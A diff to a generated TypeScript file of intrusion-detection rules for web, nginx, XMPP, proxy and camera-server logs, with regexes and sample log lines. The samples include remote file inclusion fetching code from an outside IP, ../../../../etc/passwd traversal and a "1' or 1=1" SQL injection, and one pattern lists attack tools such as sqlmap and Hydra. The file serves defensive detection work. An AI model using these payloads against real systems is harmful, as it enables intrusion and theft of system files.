+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.136\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/admin\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"]}},\"user_id\":\"bob\",\"duration\":0.0009,\"size\":0,\"status\":401,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.136"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
             "line": "192.0.2.92 - - [10/Mar/2023:17:00:01 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"",
             "expect": null
           },
@@ -3531,11 +4039,130 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         ]
       },
       {
+        "id": "http-access.credentials-refused",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} - \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 (?=[^\\n]{0,16384}?\"(?:Authorization|Proxy-Authorization)\":\\[\")",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "HTTP credentials refused from {ip} ({method} {path} answered 401)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.130\",\"remote_port\":\"41342\",\"proto\":\"HTTP/2.0\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/private\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"],\"Authorization\":[\"REDACTED\"]}},\"user_id\":\"\",\"duration\":0.000929675,\"size\":0,\"status\":401,\"resp_headers\":{\"Www-Authenticate\":[\"Basic realm=\\\"restricted\\\"\"]}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.130"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2022-03-09T21:30:01.5241024Z"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.131\",\"remote_port\":\"41342\",\"client_ip\":\"192.0.2.131\",\"proto\":\"HTTP/2.0\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/private\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"]}},\"bytes_read\":0,\"user_id\":\"\",\"duration\":0.000929675,\"size\":0,\"status\":401,\"resp_headers\":{}}",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.132 - - [10/Oct/2023:13:55:36 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"x \\\"Authorization\\\":[\\\"y\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.login-failed",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?:(?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 |(?<path2>(?=[^ \"?]{0,1024}?(?:[Ll]og[-_]?[Ii]n|[Ll]ogon|[Ss]ign[-_]?[Ii]n|/auth|/session|/token|j_security_check|wp-login\\.php))[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 403 )",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "HTTP login refused from {ip} (POST {path}{path2})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "192.0.2.120 - - [10/Oct/2023:13:55:36 +0000] \"POST /login HTTP/1.1\" 401 120 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.120"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "192.0.2.121 - - [10/Oct/2023:13:55:36 +0000] \"POST /api/v1/graphql HTTP/1.1\" 401 64 \"-\" \"python-requests/2.31\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.121"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2001:db8::122 - - [10/Oct/2023:13:55:36 +0000] \"POST /user/login?destination=/node HTTP/1.1\" 403 120 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::122"
+                }
+              ]
+            }
+          },
+          {
+            "line": "www.example.com:443 192.0.2.123 - - [10/Oct/2023:13:55:36 +0000] \"POST /api/auth/signin HTTP/2.0\" 403 88 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.123"
+                }
+              ]
+            }
+          },
+          {
+            "line": "192.0.2.124 - - [10/Oct/2023:13:55:36 +0000] \"POST /comments/new HTTP/1.1\" 403 120 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.125 - - [10/Oct/2023:13:55:36 +0000] \"POST /login HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "192.0.2.126 - - [10/Oct/2023:13:55:36 +0000] \"GET /private/ HTTP/1.1\" 401 381 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
         "id": "http-access.scanner-user-agent",
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot))(?<ua>[^\"]{0,1024})\"",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot|DataCha0s|commix/|\\(Hydra\\)|sqlninja|WebInspect|AppScan|httprint|WebShag|Grabber/|muieblackcat|Zollard|sysscan/|NetSystemsResearch|LeakIX|Keydrop|Mozilla/5\\.0 zgrab|Nikto/|dirb/))(?<ua>[^\"]{0,1024})\"",
         "category": [
           "Recon.Network"
         ],
@@ -3604,6 +4231,33 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "198.51.100.53 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/4.0 (compatible; MSIE 6.0; DataCha0s)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.53"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "{\"level\":\"info\",\"ts\":1646861401.5241024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.135\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/\",\"headers\":{\"User-Agent\":[\"sqlmap/1.6.4#stable (https://sqlmap.org)\"]}},\"user_id\":\"\",\"duration\":0.0009,\"size\":0,\"status\":200,\"resp_headers\":{}}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.135"
+                }
+              ],
+              "Priority": "Low",
+              "Description": "HTTP scan from 192.0.2.135 by sqlmap: GET / HTTP/1.1"
+            }
+          },
+          {
+            "line": "198.51.100.54 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"",
+            "expect": null
           },
           {
             "line": "198.51.100.52 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0 Safari/537.36\"",
@@ -3971,12 +4625,12 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d|(?:GET|HEAD|POST) https?://[^ \"]{1,2048} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
         "category": [
           "Recon.Network"
         ],
         "priority": "Low",
-        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy CONNECT (answered {status})",
+        "description": "HTTP scan from {ip}: not an HTTP request, or a proxy request (answered {status})",
         "source": {
           "address": "{ip}"
         },
@@ -4004,6 +4658,16 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "198.51.100.80"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.82 - - [02/Mar/2024:11:11:11 +0000] \"GET http://www.example.com/proxy-check HTTP/1.1\" 404 226 \"-\" \"-\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.82"
                 }
               ]
             }
@@ -4037,6 +4701,14 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^\\{\"ClientAddr\":\"[^\"]{0,64}\",\"ClientHost\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"ClientPort\":\"[0-9-]{0,5}\",\"ClientUsername\":\"(?<user>[^\"\\\\ ]{1,256})\",\"DownstreamContentSize\":(?<size>\\d{1,20}),\"DownstreamStatus\":(?<status>\\d{3}),[^\\n]{0,2048}?\"RequestMethod\":\"(?<method>[A-Z]{3,10})\",\"RequestPath\":\"(?<path>[^\"\\\\ ]{0,4096})\",[^\\n]{0,512}?\"RequestProtocol\":\"(?<proto>HTTP/[0-9.]{1,3})\",(?:[^\\n]{0,16384}?\"request_User-Agent\":\"(?<ua>[^\"\\\\]{0,1024})\")?[^\\n]{0,16384}?\"time\":\"(?<time>[^\"]{10,40})\"\\}$",
           "message": "{client} - {user} [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\""
+        },
+        {
+          "prefix": "^\\{\"level\":\"[a-z]{3,7}\",\"ts\":(?:(?<time>\\d{9,11}\\.\\d{3,9})|\\d{9,11}(?:\\.\\d{1,2})?),\"logger\":\"http\\.log\\.access[A-Za-z0-9_.-]{0,64}\",\"msg\":\"handled request\",\"request\":\\{\"remote_ip\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"remote_port\":\"\\d{0,5}\",(?:\"client_ip\":\"[0-9A-Fa-f:.]{2,45}\",)?\"proto\":\"(?<proto>HTTP/[0-9.]{1,3})\",\"method\":\"(?<method>[A-Z]{3,10})\",\"host\":\"(?:[^\"\\\\]|\\\\.){0,1024}\",\"uri\":\"(?<path>[^\"\\\\ ]{1,4096})\",\"headers\":\\{(?=(?:(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60}?\"User-Agent\":\\[\"(?<ua>[^\"\\\\]{0,1024})\")?)(?<headers>(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60})\\}(?:,\"tls\":\\{[^{}]{0,1024}\\})?\\},(?:\"bytes_read\":\\d{1,20},)?\"user_id\":\"(?<user>[^\"\\\\ ]{1,256})\",\"duration\":[0-9.eE+-]{1,30},\"size\":(?<size>\\d{1,20}),\"status\":(?<status>\\d{3})",
+          "message": "{client} - {user} [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\" {headers}"
+        },
+        {
+          "prefix": "^\\{\"level\":\"[a-z]{3,7}\",\"ts\":(?:(?<time>\\d{9,11}\\.\\d{3,9})|\\d{9,11}(?:\\.\\d{1,2})?),\"logger\":\"http\\.log\\.access[A-Za-z0-9_.-]{0,64}\",\"msg\":\"handled request\",\"request\":\\{\"remote_ip\":\"(?<client>[0-9A-Fa-f:.]{2,45})\",\"remote_port\":\"\\d{0,5}\",(?:\"client_ip\":\"[0-9A-Fa-f:.]{2,45}\",)?\"proto\":\"(?<proto>HTTP/[0-9.]{1,3})\",\"method\":\"(?<method>[A-Z]{3,10})\",\"host\":\"(?:[^\"\\\\]|\\\\.){0,1024}\",\"uri\":\"(?<path>[^\"\\\\ ]{1,4096})\",\"headers\":\\{(?=(?:(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60}?\"User-Agent\":\\[\"(?<ua>[^\"\\\\]{0,1024})\")?)(?<headers>(?:\"[^\"\\\\]{1,100}\":\\[(?:\"(?:[^\"\\\\]|\\\\.){0,4096}\",?){0,20}\\],?){0,60})\\}(?:,\"tls\":\\{[^{}]{0,1024}\\})?\\},(?:\"bytes_read\":\\d{1,20},)?\"user_id\":\"\",\"duration\":[0-9.eE+-]{1,30},\"size\":(?<size>\\d{1,20}),\"status\":(?<status>\\d{3})",
+          "message": "{client} - - [-] \"{method} {path} {proto}\" {status} {size} \"-\" \"{ua}\" {headers}"
         },
         {
           "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}) {1,2}(?<ident>[^ ]{1,64}) {1,2}(?<user>[^ ]{1,256}) {1,2}(?=\\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
@@ -5679,7 +6351,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^client sent (?<what>invalid method|invalid request|invalid host in request line|invalid header line|too long URI|invalid URI|plain HTTP request to HTTPS port)[^,]{0,80}, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^client sent (?<what>invalid method|invalid request|invalid host in request line|invalid host header|duplicate host header|HTTP/1\\.1 request without \"Host\" header|invalid header line|too long URI|invalid URI|plain HTTP request to HTTPS port)[^,]{0,80}, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Recon.Network"
         ],
@@ -5698,6 +6370,26 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.52"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2016/05/10 10:00:00 [info] 99#0: *5 client sent invalid host header while reading client request headers, client: 192.0.2.56, server: example.org, request: \"GET / HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.56"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2016/05/10 10:00:00 [info] 99#0: *5 client sent HTTP/1.1 request without \"Host\" header while reading client request headers, client: 192.0.2.57, server: example.org, request: \"GET / HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.57"
                 }
               ]
             }
@@ -5732,6 +6424,147 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Medium"
+            }
+          }
+        ]
+      },
+      {
+        "id": "nginx.php-file-inclusion",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "FastCGI sent in stderr: \"PHP message: PHP ",
+        "pattern": "^FastCGI sent in stderr: \"(?:PHP message: PHP (?:Warning|Fatal error): {1,2}(?<fn>include|include_once|require|require_once)(?:\\(\\): (?:(?<scheme>https?|ftps?|php|data|expect):// wrapper is disabled in the server configuration by allow_url_(?:include|fopen)=0|Failed opening (?:required )?'(?<url>(?:(?:https?|ftps?|php|data|expect):|(?=[^'\", ]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^'\", ]{1,2048})'(?: for inclusion)? \\(include_path='[^'\"]{0,4096}'\\))|\\((?<arg>(?:(?:https?|ftps?|php|data|expect):|(?=[^)'\", ]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^)'\", ]{1,2048})\\): [Ff]ailed to open stream: [A-Za-z0-9/.!:_\\\\ -]{0,200}?) in [^ \",]{1,1024} on line \\d{1,9}(?:\\\\n)?){1,4}\" while reading (?:response header from )?upstream, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: [^ ,\"]{0,256}, request: \"[^\"]{0,8192}\"(?:, [a-z]{2,12}: \"[^\"]{0,8192}\"){0,8}$",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "PHP file inclusion attempt from {ip}: {fn}() of {url}{arg}{scheme}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'http://198.51.100.9/x.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.60, server: example.org, request: \"GET /?page=http://198.51.100.9/x.txt? HTTP/1.1\", upstream: \"fastcgi://unix:/run/php/php-fpm.sock:\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.60"
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium",
+              "Description": "PHP file inclusion attempt from 192.0.2.60: include() of http://198.51.100.9/x.txt?"
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): http:// wrapper is disabled in the server configuration by allow_url_include=0 in /var/www/index.php on line 3PHP message: PHP Warning:  include(http://198.51.100.9/x.txt?): Failed to open stream: no suitable wrapper could be found in /var/www/index.php on line 3PHP message: PHP Warning:  include(): Failed opening 'http://198.51.100.9/x.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 2001:db8::61, server: example.org, request: \"GET /?page=http://198.51.100.9/x.txt? HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::61"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(../../../../etc/passwd): failed to open stream: No such file or directory in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.62, server: example.org, request: \"GET /?page=../../../../etc/passwd HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.62"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'http://a/' for inclusion (include_path='.') in /a on line 1\" while reading response header from upstream, client: 6.6.6.6, server: x' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.63, server: example.org, request: \"GET / HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'inc/menu.php' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.64, server: example.org, request: \"GET / HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "nginx.naxsi-fmt",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "NAXSI_FMT: ip=",
+        "pattern": "^NAXSI_FMT: ip=(?<ip>[0-9A-Fa-f:.]{2,45})&server=[^&]{0,256}&uri=(?<uri>[^&]{0,2048})&",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Medium",
+        "description": "naxsi flagged a request from {ip} for {uri}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2013/11/10 07:36:19 [error] 8278#0: *5932 NAXSI_FMT: ip=192.0.2.65&server=198.51.100.2&uri=/phpMyAdmin-2.8.2/scripts/setup.php&learning=0&vers=0.52&total_processed=472&total_blocked=204&block=0&cscore0=$UWA&score0=8&zone0=HEADERS&id0=42000227&var_name0=user-agent, client: 192.0.2.65, server: blog.example.org, request: \"GET /phpMyAdmin-2.8.2/scripts/setup.php HTTP/1.1\", host: \"198.51.100.2\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.65"
+                }
+              ],
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 NAXSI_FMT: ip=2001:db8::66&server=example.org&uri=/&learning=1&vers=1.3&total_processed=1&total_blocked=1&block=1&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0=q, client: 2001:db8::66, server: example.org, request: \"GET /?q=1%27%20or%201=1 HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::66"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "nginx.naxsi-exlog",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "NAXSI_EXLOG: ip=",
+        "pattern": "^NAXSI_EXLOG: ip=(?<ip>[0-9A-Fa-f:.]{2,45})&server=[^&]{0,256}&uri=(?<uri>[^&]{0,2048})&",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "naxsi matched a rule in a request from {ip} for {uri}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 NAXSI_EXLOG: ip=192.0.2.67&server=example.org&uri=/&id=1000&zone=ARGS&var_name=q&content=1' or 1=1, client: 192.0.2.67, server: example.org, request: \"GET /?q=1%27%20or%201=1 HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.67"
+                }
+              ],
+              "Priority": "Low"
             }
           }
         ]
@@ -6441,6 +7274,128 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-prosody.yaml",
+    "rules": [
+      {
+        "id": "prosody.auth-failed",
+        "programs": [
+          "prosody"
+        ],
+        "requires": "Failed authentication attempt (",
+        "pattern": "^Failed authentication attempt \\((?<condition>[A-Za-z-]{1,64})\\)(?: for user (?<user>.{0,256}))? from IP: (?<ip>[0-9A-Fa-f:.]{2,45})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Prosody (XMPP) login as {user} failed from {ip} ({condition})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "xmpp"
+        },
+        "samples": [
+          {
+            "line": "Jan 15 12:00:00 c2s55e1d3a4c1c0\tinfo\tFailed authentication attempt (not-authorized) for user bob from IP: 192.0.2.61",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.61"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "xmpp"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan  5 12:00:00 example.org:log_auth\tinfo\tFailed authentication attempt (not-authorized) from IP: 2001:db8::62",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::62"
+                }
+              ]
+            }
+          },
+          {
+            "line": "c2s5618c0f5d2a0     info\tFailed authentication attempt (not-authorized) for user alice from IP: ::ffff:192.0.2.63",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.63"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "alice"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 15 12:00:00 xmpp prosody[812]: c2s55e1d3a4c1c0: Failed authentication attempt (not-authorized) for user carol from IP: 192.0.2.64",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.64"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "carol"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 15 12:00:00 c2s55e1d3a4c1c0\tinfo\tFailed authentication attempt (not-authorized) for user x from IP: 10.1.1.1 from IP: 192.0.2.65",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.65"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 15 12:00:00 c2s55e1d3a4c1c0\tinfo\tFailed authentication attempt (not-authorized) for user bob from IP: ?",
+            "expect": null
+          },
+          {
+            "line": "Jan 15 12:00:00 c2s55e1d3a4c1c0\tinfo\tSuccessful authentication as bob from IP: 192.0.2.66",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "prosody",
+      "description": "Prosody XMPP server log file (mod_log_auth lines)",
+      "syslogTags": [
+        "prosody"
+      ],
+      "syslogPrefix": "^[A-Za-z0-9_.:@-]{1,255}: ",
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d) [A-Za-z0-9_.:@-]{1,255}\\t(?:debug|info|warn|error)\\t",
+          "time": "MMM D hh:mm:ss"
+        },
+        {
+          "prefix": "^[A-Za-z0-9_.:@-]{1,255} {1,60}(?:debug|info|warn|error)\\t"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-pveproxy.yaml",
     "rules": [
       {
@@ -6973,6 +7928,17 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           {
             "line": "1286536309.450    120 192.0.2.212 TCP_MISS/200 4520 GET http://www.example.com/ - HIER_DIRECT/203.0.113.1 text/html",
             "expect": null
+          },
+          {
+            "line": "Jan 10 12:00:00 proxy squid[812]: 1286536309.450      0 192.0.2.215 TCP_DENIED/403 3955 CONNECT 203.0.113.25:25 - HIER_NONE/- text/html",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.215"
+                }
+              ],
+              "Priority": "Low"
+            }
           }
         ]
       },
@@ -7022,6 +7988,11 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     "logformat": {
       "program": "squid",
       "description": "Squid access log (native format)",
+      "syslogTags": [
+        "squid",
+        "squid3"
+      ],
+      "syslogPrefix": "^\\d{9,11}\\.\\d{3} {1,8}(?=\\d{1,10} [0-9A-Fa-f:.]{2,45} [A-Z_]{2,40}/\\d{3} )",
       "lines": [
         {
           "prefix": "^(?<time>\\d{9,11}\\.\\d{3}) {1,8}(?=\\d{1,10} [0-9A-Fa-f:.]{2,45} [A-Z_]{2,40}/\\d{3} )"
@@ -7683,6 +8654,104 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-zoneminder.yaml",
+    "rules": [
+      {
+        "id": "zoneminder.login-denied",
+        "programs": [
+          "zoneminder"
+        ],
+        "pattern": "^(?:WAR|ERR|INF) \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] \\[(?:Login denied for user \"(?<user>[^\"]{0,256})\"|Could not retrieve user (?<user2>[^ \\]]{0,256}) details)\\]",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "ZoneMinder login as {user}{user2} denied from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}{user2}",
+          "service": "zoneminder"
+        },
+        "samples": [
+          {
